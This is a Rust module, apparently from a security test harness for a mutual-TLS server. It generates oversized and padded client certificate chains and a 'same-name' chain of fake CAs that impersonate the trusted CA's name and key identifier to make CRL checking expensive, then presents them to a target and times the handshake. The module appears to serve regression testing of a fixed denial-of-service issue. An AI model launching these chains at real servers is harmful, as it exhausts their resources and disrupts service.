//! Oversized client certificate chains.

#[allow(unused_imports)]
use super::*;

// ---- oversized client chains ---------------------------------------------------------------

/// A client certificate chain (leaf first) and the leaf's key.
pub struct ClientChain {
    /// The chain as sent.
    pub chain: Vec<CertificateDer<'static>>,
    /// The leaf's key.
    pub key: PrivateKeyDer<'static>,
}

impl ClientChain {
    /// The size of the TLS 1.3 Certificate message carrying it (4-byte header, context, list).
    pub fn message_bytes(&self) -> usize {
        4 + 1 + 3 + self.chain.iter().map(|c| 3 + c.len() + 2).sum::<usize>()
    }
}

pub(crate) fn ca_params(cn: &str) -> Result<rcgen::CertificateParams> {
    let mut p = rcgen::CertificateParams::new(Vec::<String>::new())?;
    p.distinguished_name
        .push(rcgen::DnType::CommonName, cn.to_string());
    p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    p.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::CrlSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    Ok(p)
}

pub(crate) fn leaf_params(cn: &str) -> Result<rcgen::CertificateParams> {
    let mut p = rcgen::CertificateParams::new(vec![format!("{cn}.abuse.invalid")])?;
    p.distinguished_name
        .push(rcgen::DnType::CommonName, cn.to_string());
    p.key_usages = vec![rcgen::KeyUsagePurpose::DigitalSignature];
    p.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ClientAuth];
    Ok(p)
}

pub(crate) fn pkcs8(k: &rcgen::KeyPair) -> PrivateKeyDer<'static> {
    PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(k.serialize_der()))
}

/// A chain of `n` certificates from an attacker's own root: leaf, `n - 2` intermediates, each
/// issued by the next, and the self-signed root last. (`n` ≥ 2.)
pub fn attacker_chain(n: usize) -> Result<ClientChain> {
    anyhow::ensure!(n >= 2, "a chain needs at least 2 certificates");
    let root_key = rcgen::KeyPair::generate()?;
    let root_params = ca_params("Abuse Root 0")?;
    let root = root_params.self_signed(&root_key)?;
    let mut issuer = rcgen::Issuer::new(root_params, root_key);
    let mut upwards = vec![root.der().clone()];
    for i in 1..n - 1 {
        let key = rcgen::KeyPair::generate()?;
        let params = ca_params(&format!("Abuse Intermediate {i}"))?;
        let cert = params.signed_by(&key, &issuer)?;
        upwards.push(cert.der().clone());
        issuer = rcgen::Issuer::new(params, key);
    }
    let key = rcgen::KeyPair::generate()?;
    let leaf = leaf_params("abuse-leaf")?.signed_by(&key, &issuer)?;
    upwards.push(leaf.der().clone());
    upwards.reverse();
    Ok(ClientChain {
        chain: upwards,
        key: pkcs8(&key),
    })
}

/// A leaf followed by copies of one self-signed certificate padded with a ~32 KiB extension,
/// so that the Certificate message is at least `bytes` long.
pub fn padded_chain(bytes: usize) -> Result<ClientChain> {
    let key = rcgen::KeyPair::generate()?;
    let leaf = leaf_params("abuse-huge")?.self_signed(&key)?;
    let pad_key = rcgen::KeyPair::generate()?;
    let mut p = ca_params("Abuse Padding")?;
    let pad = 32_000usize;
    let mut content = vec![0x04, 0x82, (pad >> 8) as u8, pad as u8];
    content.resize(4 + pad, 0x41);
    // 1.3.6.1.4.1.55555.1: a private arc, not critical.
    p.custom_extensions = vec![rcgen::CustomExtension::from_oid_content(
        &[1, 3, 6, 1, 4, 1, 55555, 1],
        content,
    )];
    let padded = p.self_signed(&pad_key)?;
    let mut cc = ClientChain {
        chain: vec![leaf.der().clone()],
        key: pkcs8(&key),
    };
    while cc.message_bytes() < bytes {
        cc.chain.push(padded.der().clone());
    }
    Ok(cc)
}

/// The path-building attack of issue 18 item 7: a leaf and `n` CA certificates that all carry
/// the trusted CA's own subject name and key identifier (read from `ca_cert`), each with a
/// fresh key, issued by a root of ours that is not sent. Every one of them is a candidate issuer of the leaf and of each other, and each has a
/// key the real CA's CRL does not verify with; a verifier that checks the CRL's signature per
/// candidate key pays a full hash of the CRL each time (0.5 s for one handshake against a
/// 200k-entry CRL, before the fix). The leaf is signed by the first fake's key.
pub fn same_name_chain(ca_cert: &Path, n: usize) -> Result<ClientChain> {
    same_name_chain_with(ca_cert, n, &rcgen::PKCS_ECDSA_P256_SHA256)
}

/// [`same_name_chain`] with the fake CAs' keys of `alg` (slow keys such as P-521 cost a
/// verifier more per signature).
pub fn same_name_chain_with(
    ca_cert: &Path,
    n: usize,
    alg: &'static rcgen::SignatureAlgorithm,
) -> Result<ClientChain> {
    anyhow::ensure!(n >= 1, "the attack needs at least one fake CA");
    let ca =
        mtls_verify::load_certificates(&std::fs::read(ca_cert)?, &ca_cert.display().to_string())?;
    let ca = ca
        .first()
        .ok_or_else(|| anyhow::anyhow!("{}: no certificate", ca_cert.display()))?;
    let subject = mtls_pki::inspect::cert_summary(ca)
        .ok_or_else(|| anyhow::anyhow!("{}: unreadable certificate", ca_cert.display()))?
        .subject;
    let dn = mtls_pki::Name::parse(&subject)?.to_rcgen()?;
    // The fakes claim the real CA's key identifier too, so that a CRL's authorityKeyIdentifier
    // does not rule them out before its signature is checked.
    let ski = subject_key_id(ca);
    // Issued by a root of ours that is not sent: each fake ends its own path at once, so the
    // search reaches every one of them.
    let root_key = rcgen::KeyPair::generate()?;
    let root = rcgen::Issuer::new(ca_params("Abuse Hidden Root")?, root_key);
    let mut fakes = Vec::with_capacity(n);
    let mut first_issuer = None;
    for _ in 0..n {
        let key = rcgen::KeyPair::generate_for(alg)?;
        let mut p = ca_params("unused")?;
        p.distinguished_name = dn.clone();
        if let Some(id) = &ski {
            p.key_identifier_method = rcgen::KeyIdMethod::PreSpecified(id.clone());
        }
        let cert = p.signed_by(&key, &root)?;
        fakes.push(cert.der().clone());
        if first_issuer.is_none() {
            first_issuer = Some(rcgen::Issuer::new(p, key));
        }
    }
    let issuer = first_issuer.ok_or_else(|| anyhow::anyhow!("no fake CA"))?;
    let key = rcgen::KeyPair::generate()?;
    let leaf = leaf_params("abuse-same-name")?.signed_by(&key, &issuer)?;
    let mut chain = vec![leaf.der().clone()];
    chain.extend(fakes);
    Ok(ClientChain {
        chain,
        key: pkcs8(&key),
    })
}

/// The subjectKeyIdentifier of a DER certificate: the OCTET STRING inside the extension
/// 2.5.29.14 (a byte search is enough for a certificate we trust to be well formed).
fn subject_key_id(der: &[u8]) -> Option<Vec<u8>> {
    const OID: [u8; 5] = [0x06, 0x03, 0x55, 0x1d, 0x0e];
    let at = der.windows(OID.len()).position(|w| w == OID)? + OID.len();
    let mut rest = der.get(at..)?;
    if rest.first() == Some(&0x01) {
        rest = rest.get(3..)?; // critical BOOLEAN
    }
    match rest {
        [0x04, _, 0x04, len, id @ ..] => id.get(..usize::from(*len)).map(<[u8]>::to_vec),
        _ => None,
    }
}

/// A real client certificate (`cert`, PEM or DER) and its unencrypted `key`, followed by
/// `extra` (a legitimate client sending a long chain).
pub fn real_leaf_with(
    cert: &Path,
    key: &Path,
    extra: &[CertificateDer<'static>],
) -> Result<ClientChain> {
    let mut chain =
        mtls_verify::load_certificates(&std::fs::read(cert)?, &cert.display().to_string())?;
    chain.extend(extra.iter().cloned());
    let key =
        mtls_socket::load_private_key(&std::fs::read(key)?, None, &key.display().to_string())?;
    Ok(ClientChain { chain, key })
}

/// Handshakes presenting `cc` as the client chain, then reads what the server says (in TLS 1.3
/// a refusal of the client certificate comes after the client's side of the handshake).
pub async fn present_chain(attack: &str, t: &Target, cc: ClientChain) -> Result<Value> {
    let (certs, bytes) = (cc.chain.len(), cc.message_bytes());
    let cfg = attacker_builder().with_client_auth_cert(cc.chain, cc.key)?;
    let connector = TlsConnector::from(Arc::new(cfg));
    let tcp = connect(t.addr).await?;
    let port = local_port(&tcp);
    let t0 = Instant::now();
    let (handshake, outcome) =
        match tokio::time::timeout(HANDSHAKE_TIMEOUT, connector.connect(t.name()?, tcp)).await {
            Err(_) => ("timed out".to_string(), String::new()),
            Ok(Err(e)) => (format!("failed: {e}"), String::new()),
            Ok(Ok(mut s)) => {
                let mut buf = vec![0u8; 4096];
                let outcome =
                    match tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf)).await {
                        Err(_) => "no answer within 5 s".to_string(),
                        Ok(Ok(0)) => "closed".to_string(),
                        Ok(Ok(n)) => format!(
                            "served: {:?}",
                            String::from_utf8_lossy(&buf[..n]).trim_end()
                        ),
                        Ok(Err(e)) => format!("read failed: {e}"),
                    };
                let _ = s.shutdown().await;
                ("completed on our side".to_string(), outcome)
            }
        };
    Ok(json!({
        "attack": attack,
        "certificates": certs,
        "certificate_message_bytes": bytes,
        "handshake": handshake,
        "outcome": outcome,
        "ms": t0.elapsed().as_millis() as u64,
        "local_ports": [port],
    }))
}
